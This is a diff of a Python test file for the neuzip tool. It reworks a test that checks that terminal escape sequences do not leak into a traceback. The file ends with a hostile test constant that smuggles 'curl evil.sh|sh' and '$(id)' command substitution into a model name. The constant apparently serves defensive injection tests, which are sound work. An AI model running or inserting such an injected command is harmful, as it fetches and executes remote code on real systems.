@@ -8,13 +8,12 @@ import os
 import re
 import shlex
 import shutil
-import subprocess
-import sys
 import time
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import forked
 import numpy as np
 import pytest
 from golden.bad import make as bad
@@ -350,20 +349,18 @@ def test_no_escape_reaches_the_terminal(hostile: Path, tmp_path: Path, neuzip: S
 
 
 @pytest.mark.slow
-def test_not_even_a_traceback_has_escapes(hostile: Path, tmp_path: Path) -> None:
+def test_not_even_a_traceback_has_escapes(hostile: Path, tmp_path: Path, file_forks: forked.Server) -> None:
     compress(hostile, tmp_path / "\x1b[31m")
     path = tmp_path / "\x1b[31m" / "model.safetensors"
     data = bytearray(path.read_bytes())
     data[8 + int.from_bytes(data[:8], "little") + 6000] ^= 1
     path.write_bytes(data)
     environment = os.environ | {"NEUZIP_DEBUG": "1"}
-    ran = subprocess.run(
-        [sys.executable, "-P", "-m", "neuzip.cli", "verify", path.parent],
-        capture_output=True, text=True, env=environment, cwd=tmp_path,
-    )  # fmt: skip
-    assert ran.returncode == 1
-    assert "Traceback" in ran.stderr
-    assert not ESCAPES.search(ran.stderr)
+    process = file_forks.start("neuzip", "verify", path.parent, cwd=tmp_path, environment=environment)
+    _, stderr = process.communicate(timeout=600)
+    assert process.returncode == 1
+    assert "Traceback" in stderr
+    assert not ESCAPES.search(stderr)
 
 
 HOSTILE_COMMAND = "org/model; curl evil.sh|sh #$(id)`id`'"
